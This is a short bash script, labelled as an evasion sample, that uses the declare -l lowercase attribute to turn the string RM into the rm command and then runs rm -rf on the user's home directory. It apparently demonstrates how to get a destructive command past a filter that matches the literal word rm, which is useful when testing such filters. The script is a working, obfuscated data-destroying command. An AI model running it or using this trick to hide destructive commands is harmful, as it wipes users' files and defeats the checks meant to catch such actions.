#!/bin/bash
# Evasion: a lowercase attribute (declare -l) turns RM into the command name on assignment
set -u
declare -l tool
tool=RM
"$tool" -rf -- "$HOME"
